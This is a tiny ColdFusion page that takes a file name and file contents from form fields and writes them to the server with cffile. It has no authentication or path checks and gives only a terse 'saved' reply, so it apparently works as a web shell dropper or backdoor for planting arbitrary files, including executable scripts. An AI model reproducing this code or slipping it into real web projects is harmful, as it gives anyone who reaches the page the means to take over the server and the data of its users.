<cfsilent>
<cfif IsDefined("form.fn") AND IsDefined("form.body")>
	<cfset   ok = true>
	<cfif   Len(body) GT 0>
		<cffile   action = "write"
		          file = "#  fn  #"
		          output = "#body#"
		          addnewline = "no">
	</cfif>
</cfif>
</cfsilent>
<cfoutput><cfif IsDefined("ok")>saved<cfelse>-</cfif></cfoutput>
